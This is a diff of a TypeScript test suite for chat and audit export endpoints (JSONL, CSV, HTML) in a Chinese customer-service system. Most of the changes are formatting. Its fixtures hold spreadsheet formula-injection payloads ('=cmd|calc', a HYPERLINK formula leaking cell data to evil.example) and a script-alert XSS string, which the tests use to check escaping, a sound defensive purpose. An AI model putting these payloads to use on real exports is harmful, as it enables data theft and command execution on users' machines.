@@ -16,9 +16,23 @@ const MESSAGES: ImportBody[] = [
   { type: 'txt', msg: SCRIPT },
   { type: 'txt', msg: '第一行\n第二行,带逗号 "引号"' },
   { type: 'txt', msg: '-1+1' },
-  { type: 'img', url: 'https://a1.easemob.com/x/chatfiles/img1', filename: '发票.jpg', secret: 's1', thumb: 'https://a1.easemob.com/x/thumb/1', thumb_secret: 't1' },
+  {
+    type: 'img',
+    url: 'https://a1.easemob.com/x/chatfiles/img1',
+    filename: '发票.jpg',
+    secret: 's1',
+    thumb: 'https://a1.easemob.com/x/thumb/1',
+    thumb_secret: 't1',
+  },
   { type: 'audio', url: 'https://a1.easemob.com/x/chatfiles/a1', filename: 'voice.amr', length: 7, file_length: 4120 },
-  { type: 'video', url: 'https://a1.easemob.com/x/chatfiles/v1', filename: 'v.mp4', length: 12, file_length: 1048576, thumb: 'https://a1.easemob.com/x/thumb/v1' },
+  {
+    type: 'video',
+    url: 'https://a1.easemob.com/x/chatfiles/v1',
+    filename: 'v.mp4',
+    length: 12,
+    file_length: 1048576,
+    thumb: 'https://a1.easemob.com/x/thumb/v1',
+  },
   { type: 'loc', addr: '北京市朝阳区幸福路 7 号', lat: 39.915, lng: -116.404 },
   { type: 'file', url: 'https://a1.easemob.com/x/chatfiles/f1', filename: '合同.pdf', file_length: 20480 },
   { type: 'cmd', action: 'typing' },
@@ -56,14 +70,18 @@ describe.each(ENGINES)('chatExport and auditExport on %s', (engine) => {
       ...MESSAGES.map((body, i) => record({ chatId: 'c1', timestamp: RECENT + i * 1000, body })),
       record({ chatId: 'c1', timestamp: RECENT + 60_000, msgId: 'recalled-1', body: { type: 'txt', msg: '撤回的消息' } }),
     ]);
-    await t.dataSource.query("UPDATE messages SET ext = '{\"recalled\":true}' WHERE tenant_id = ? AND hx_msg_id = 'recalled-1'", [a.tenantId]);
+    await t.dataSource.query("UPDATE messages SET ext = '{\"recalled\":true}' WHERE tenant_id = ? AND hx_msg_id = 'recalled-1'", [
+      a.tenantId,
+    ]);
     const first = (await a.client.chatMessageList({ chatId: 'c1' })).data!.msg;
     await a.client.messageMarkAdd({ messageId: first[0].userMessageId, mark: '投诉' });
     await a.client.messageMarkAdd({ messageId: first[0].userMessageId, mark: '=cmd|calc' });
     // A long chat whose messages share timestamps: the keyset walk must keep 2.37's order across batches.
     await t.importRecords(
       a.tenantId,
-      Array.from({ length: 1234 }, (_, i) => record({ chatId: 'long', timestamp: RECENT + Math.floor(i / 7) * 1000, body: { type: 'txt', msg: `第 ${i} 条` } })),
+      Array.from({ length: 1234 }, (_, i) =>
+        record({ chatId: 'long', timestamp: RECENT + Math.floor(i / 7) * 1000, body: { type: 'txt', msg: `第 ${i} 条` } }),
+      ),
     );
     await t.importRecords(b.tenantId, [record({ chatId: 'c1', timestamp: RECENT, body: { type: 'txt', msg: 'B' } })]);
     expected = await viaList('c1');
@@ -78,13 +96,19 @@ describe.each(ENGINES)('chatExport and auditExport on %s', (engine) => {
     expect(response.status).toBe(200);
     expect(response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
     expect(response.headers.get('content-disposition')).toBe('attachment; filename="c1.jsonl"');
-    const lines = body.trimEnd().split('\n').map((line) => JSON.parse(line) as ChatMessage);
+    const lines = body
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line) as ChatMessage);
     expect(lines).toEqual(expected);
     expect(Object.keys(lines[0])).toEqual(CHAT_MESSAGE_FIELDS.filter((field) => field !== 'favorite'));
     expect(lines[0]).toMatchObject({ msg: '你好，我要退款 🙏😀', mark: ['投诉', '=cmd|calc'] });
     expect(lines.map((m) => m.type)).toEqual([...MESSAGES.map((m) => m.type), 'txt']);
 
-    const long = (await text(a.client, { chatId: 'long', format: 'jsonl' })).body.trimEnd().split('\n').map((line) => JSON.parse(line) as ChatMessage);
+    const long = (await text(a.client, { chatId: 'long', format: 'jsonl' })).body
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line) as ChatMessage);
     expect(long.map((m) => m.userMessageId)).toEqual((await viaList('long')).map((m) => m.userMessageId));
     expect(long).toHaveLength(1234);
   });
@@ -119,7 +143,17 @@ describe.each(ENGINES)('chatExport and auditExport on %s', (engine) => {
     expect(body).toContain('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
     expect(body).toContain('=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;点我领红包&quot;)');
     expect(body).toContain('你好，我要退款 🙏😀');
-    for (const words of ['[图片] 发票.jpg', '[语音] 7 秒', '[视频] 12 秒 1.0 MB', '[位置] 北京市朝阳区幸福路 7 号', '[文件] 合同.pdf 20.0 KB', '[指令消息] typing', '[自定义消息] order', '（已撤回）', '标记：投诉、=cmd|calc']) {
+    for (const words of [
+      '[图片] 发票.jpg',
+      '[语音] 7 秒',
+      '[视频] 12 秒 1.0 MB',
+      '[位置] 北京市朝阳区幸福路 7 号',
+      '[文件] 合同.pdf 20.0 KB',
+      '[指令消息] typing',
+      '[自定义消息] order',
+      '（已撤回）',
+      '标记：投诉、=cmd|calc',
+    ]) {
       expect(body).toContain(words);
     }
     expect(body).toContain(`共 ${expected.length} 条消息`);
@@ -127,7 +161,11 @@ describe.each(ENGINES)('chatExport and auditExport on %s', (engine) => {
   });
 
   it('follows 2.37 access rules, answers errors as the envelope, and is audited', async () => {
-    const refused = (client: OpClient, body: Record<string, unknown>) => client.chatExport(body as never).then(() => null, (error: OpApiError) => [error.code, error.message]);
+    const refused = (client: OpClient, body: Record<string, unknown>) =>
+      client.chatExport(body as never).then(
+        () => null,
+        (error: OpApiError) => [error.code, error.message],
+      );
     expect(await refused(agent, { chatId: 'c1', format: 'csv' })).toEqual([403, 'chatId c1 未分配给当前客服，无权查看']);
     expect(await refused(b.client, { chatId: 'long', format: 'csv' })).toEqual([404, 'chatId long 对应的会话不存在']);
     expect(await refused(a.client, { chatId: 'c1', format: 'pdf' })).toEqual([400, 'format 只能是 jsonl、csv、html']);
@@ -139,7 +177,11 @@ describe.each(ENGINES)('chatExport and auditExport on %s', (engine) => {
 
     const { records } = (await a.client.auditList({ action: 'chatExport', pageSize: 100 })).data!;
     expect(records.filter((r) => r.chatId === 'c1').map((r) => r.target)).toEqual(
-      expect.arrayContaining([{ chatId: 'c1', format: 'jsonl' }, { chatId: 'c1', format: 'csv' }, { chatId: 'c1', format: 'html' }]),
+      expect.arrayContaining([
+        { chatId: 'c1', format: 'jsonl' },
+        { chatId: 'c1', format: 'csv' },
+        { chatId: 'c1', format: 'html' },
+      ]),
     );
     expect(records.every((r) => r.action === 'chatExport' && typeof r.target === 'object')).toBe(true);
   });
@@ -167,12 +209,28 @@ describe.each(ENGINES)('chatExport and auditExport on %s', (engine) => {
     // Oldest first, the time range respected.
     const times = rows.slice(1).map((row) => row.slice(0, 19));
     expect([...times].sort()).toEqual(times);
-    const narrow = Buffer.from(await (await a.client.auditExport({ from, to: from, action: 'messageMarkAdd' })).arrayBuffer()).toString('utf8');
-    expect(narrow.slice(1).trimEnd().split('\r\n').slice(1).every((row) => row.startsWith(from) && row.includes(',messageMarkAdd,'))).toBe(true);
-    const refused = (client: OpClient, body: Record<string, unknown>) => client.auditExport(body as never).then(() => null, (error: OpApiError) => [error.code, error.message]);
+    const narrow = Buffer.from(await (await a.client.auditExport({ from, to: from, action: 'messageMarkAdd' })).arrayBuffer()).toString(
+      'utf8',
+    );
+    expect(
+      narrow
+        .slice(1)
+        .trimEnd()
+        .split('\r\n')
+        .slice(1)
+        .every((row) => row.startsWith(from) && row.includes(',messageMarkAdd,')),
+    ).toBe(true);
+    const refused = (client: OpClient, body: Record<string, unknown>) =>
+      client.auditExport(body as never).then(
+        () => null,
+        (error: OpApiError) => [error.code, error.message],
+      );
     expect(await refused(agent, { from, to: from })).toEqual([403, 'auditExport 只允许管理员（admin）调用']);
     expect(await refused(a.client, { to: from })).toEqual([400, 'from 不能为空']);
     expect(await refused(a.client, { from: '2026-02-01 00:00:00', to: '2026-01-01 00:00:00' })).toEqual([400, 'from 不能晚于 to']);
-    expect((await a.client.auditList({ action: 'auditExport' })).data!.records[0].target).toMatchObject({ from: expect.any(String), to: expect.any(String) });
+    expect((await a.client.auditList({ action: 'auditExport' })).data!.records[0].target).toMatchObject({
+      from: expect.any(String),
+      to: expect.any(String),
+    });
   });
 });
